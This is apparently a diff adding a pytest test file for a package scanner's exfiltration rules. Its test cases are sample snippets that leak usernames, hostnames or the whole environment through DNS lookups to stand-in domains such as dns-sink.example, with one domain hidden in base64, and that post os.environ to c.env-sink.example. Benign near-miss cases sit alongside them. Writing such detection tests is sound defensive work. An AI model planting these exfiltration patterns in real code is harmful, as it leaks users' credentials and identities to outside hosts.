@@ -1,0 +1,267 @@
+"""Data leaving the host (caplet._scan._sink_egress): DNS and the whole environment.
+
+The attacks are the techniques of issue 16 point 1 that even the whole-file
+pass missed before branch recall6 (each fails on the scanner without it);
+the near misses are benign code of the same shape, among them the one that
+kept ``os.environ.copy()`` out of the prefilter: jupyter-server's
+gateway/managers.py, which posts a filtered copy of the environment to a
+configured server and then opens a websocket to a URL built from a field of
+the server's answer.
+"""
+
+from __future__ import annotations
+
+import textwrap
+
+import pytest
+
+from caplet._findings import Severity
+from caplet._scan._model import ScanMode
+from caplet._scan._scanner import scan_source
+
+
+def danger(
+    source: str, filename: str = "pkg/__init__.py", mode: ScanMode = ScanMode.PACKAGE
+) -> set[str]:
+    findings = scan_source(textwrap.dedent(source), filename, mode=mode)
+    return {f.rule_id for f in findings if f.severity is Severity.DANGER}
+
+
+def message(source: str, rule_id: str) -> str:
+    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=ScanMode.PACKAGE)
+    return next(f.message for f in findings if f.rule_id == rule_id)
+
+
+# -- host data in a name that is resolved -----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the domain kept base64-encoded: no literal of the file holds a dot
+        """
+        import base64, getpass, socket
+        D = base64.b64decode("b29iLWNvbGxlY3QuZXhhbXBsZQ==").decode()
+        socket.gethostbyname(getpass.getuser().encode().hex() + "." + D)
+        """,
+        # the labels written out, joined by dots
+        """
+        import getpass, socket
+        socket.gethostbyname(".".join([getpass.getuser(), "q", "dns-sink", "example"]))
+        """,
+        # gethostbyaddr resolves a host name before it looks the address up
+        """
+        import getpass, socket
+        socket.gethostbyaddr(getpass.getuser() + ".a.dns-sink.example")
+        """,
+        # asyncio's resolver: the event loop is no network object to the resolver
+        """
+        import asyncio, socket
+        async def f():
+            loop = asyncio.get_running_loop()
+            await loop.getaddrinfo(socket.gethostname() + ".l.dns-sink.example", 80)
+        """,
+        # a query message of dnspython's, sent to a nameserver of the attacker's
+        """
+        import getpass
+        import dns.message, dns.query
+        q = dns.message.make_query(getpass.getuser() + ".m.dns-sink.example", "A")
+        dns.query.udp(q, "198.51.100.53")
+        """,
+        # the environment walked into the labels
+        """
+        import os, socket
+        for k, v in os.environ.items():
+            socket.gethostbyname(f"{k}-{v}".encode().hex()[:60] + ".e.dns-sink.example")
+        """,
+        # a UDP socket connected or sent to a built name: resolving it is the leak
+        """
+        import os, socket
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.connect((os.getlogin().encode().hex() + ".c.dns-sink.example", 53))
+        """,
+        """
+        import os, socket
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.sendto(b"x", (os.getlogin().encode().hex() + ".c.dns-sink.example", 53))
+        """,
+        """
+        import os, socket
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        where = (os.getlogin().encode().hex() + ".c.dns-sink.example", 53)
+        s.connect(where)
+        """,
+        # the host name of a URL, whatever the request sends
+        """
+        import socket, requests
+        h = socket.gethostname().encode().hex()
+        requests.get(f"http://{h}.u.dns-sink.example/p.gif")
+        """,
+        """
+        import getpass, urllib.request
+        urllib.request.urlopen("https://" + getpass.getuser() + ".u.dns-sink.example/x")
+        """,
+    ],
+)
+def test_host_data_in_a_resolved_name_is_reconnaissance_sent(source: str) -> None:
+    assert "CPL-THR-017" in danger(source)
+
+
+def test_the_finding_names_the_data_and_the_resolver() -> None:
+    text = message(
+        """
+        import getpass, socket
+        socket.gethostbyaddr(getpass.getuser() + ".a.dns-sink.example")
+        """,
+        "CPL-THR-017",
+    )
+    assert "getpass.getuser in a DNS query (socket.gethostbyaddr)" in text
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # this host's own address: no domain written in the code
+        "import socket\nsocket.gethostbyname(socket.gethostname())\n",
+        "import socket\nsocket.gethostbyaddr(socket.getfqdn())\n",
+        # a server bound on this host's name, a URL of it with a port
+        """
+        import socket
+        s = socket.socket()
+        s.connect((socket.gethostname(), 8080))
+        """,
+        """
+        import socket, requests
+        requests.get(f"http://{socket.gethostname()}:8080/status")
+        """,
+        # a configured name in a URL's host: a setting, not the host's identity
+        """
+        import os, requests
+        requests.get(f"https://{os.environ['S3_BUCKET']}.s3.amazonaws.com/index.json")
+        """,
+        # a name resolved under a fixed domain, without host data
+        """
+        import socket
+        region = input()
+        socket.gethostbyname(region + ".s3.amazonaws.com")
+        """,
+    ],
+)
+def test_a_name_lookup_without_host_data_under_a_fixed_domain_is_not(source: str) -> None:
+    assert "CPL-THR-017" not in danger(source)
+
+
+def test_plugin_mode_reports_a_dns_leak_too() -> None:
+    source = """
+    import getpass, socket
+    socket.gethostbyaddr(getpass.getuser() + ".a.dns-sink.example")
+    """
+    assert "CPL-THR-017" in danger(source, mode=ScanMode.PLUGIN)
+
+
+# -- the whole environment sent ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "spelling",
+    [
+        "os.environ.copy()",
+        "dict(os.environ)",
+        "{**os.environ}",
+        "json.dumps(dict(os.environ))",
+        "os.environ._data",
+        "copy.deepcopy(os.environ)",
+    ],
+)
+def test_the_whole_environment_sent_in_any_spelling_is_harvesting(spelling: str) -> None:
+    source = f"""
+    import copy, json, os, requests
+
+    def _send(payload):
+        requests.post("https://c.env-sink.example/x", json=payload)
+
+    _send({spelling})
+    """
+    assert "CPL-THR-006" in danger(source)
+
+
+def test_an_environment_copy_kept_on_an_object_and_sent_is_harvesting() -> None:
+    source = """
+    import os, requests
+    class Reporter:
+        def __init__(self):
+            self.env = os.environ.copy()
+        def send(self):
+            requests.post("https://c.env-sink.example/x", json={"env": self.env})
+    Reporter().send()
+    """
+    assert "CPL-THR-006" in danger(source)
+
+
+def test_the_environment_stored_under_a_key_and_sent_by_that_key_is_harvesting() -> None:
+    # one entry by a key written out is one variable, unless the file stores the whole
+    # environment under that very key
+    source = """
+    import os, requests
+    info = {"env": dict(os.environ), "v": 1}
+    report = {}
+    report["all"] = os.environ.copy()
+    requests.post("https://c.env-sink.example/x", json=info["env"])
+    requests.post("https://c.env-sink.example/y", json=report["all"])
+    """
+    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=ScanMode.PACKAGE)
+    assert {f.line for f in findings if f.rule_id == "CPL-THR-006"} >= {6, 7}
+
+
+def test_a_field_of_the_answer_to_a_request_that_sent_a_filtered_copy_is_not() -> None:
+    # jupyter-server's gateway/managers.py (start_kernel, start_channels), reduced: a copy
+    # of the environment filtered to the kernel's own variables is posted to a configured
+    # server; a websocket is then opened to a URL built from the "id" of its answer
+    source = """
+    import os
+    import websocket
+    from tornado.escape import json_decode, json_encode, url_escape
+    from .gateway_client import GatewayClient, gateway_request
+
+    class Manager:
+        async def start_kernel(self, **kwargs):
+            payload_envs = os.environ.copy()
+            payload_envs.update(kwargs.get("env", {}))
+            kernel_env = {
+                k: v
+                for (k, v) in payload_envs.items()
+                if k.startswith("KERNEL_") or k in GatewayClient.instance().allowed_envs
+            }
+            json_body = json_encode({"name": "python3", "env": kernel_env})
+            response = await gateway_request(self.kernels_url, method="POST", body=json_body)
+            self.kernel = json_decode(response.body)
+            self.kernel_id = self.kernel["id"]
+
+        def start_channels(self):
+            ws_url = GatewayClient.instance().ws_url + "/" + url_escape(self.kernel_id)
+            self.channel_socket = websocket.create_connection(ws_url, timeout=60)
+    """
+    assert "CPL-THR-006" not in danger(source, "jupyter_server/gateway/managers.py")
+
+
+@pytest.mark.parametrize(
+    "entry",
+    ['env["HOME"]', 'env.get("LANG")', 'env.get("LANG", "C")', 'env.pop("PWD", "")'],
+)
+def test_one_variable_of_an_environment_copy_is_not_the_environment(entry: str) -> None:
+    source = f"""
+    import os, requests
+    env = os.environ.copy()
+    requests.get("https://api.example.com/v1", params={{"x": {entry}}})
+    """
+    assert "CPL-THR-006" not in danger(source)
+
+
+def test_plugin_mode_reports_an_environment_copy_sent_too() -> None:
+    source = """
+    import os, requests
+    def _send(payload):
+        requests.post("https://c.env-sink.example/x", json=payload)
+    _send(os.environ.copy())
+    """
+    assert "CPL-THR-006" in danger(source, mode=ScanMode.PLUGIN)
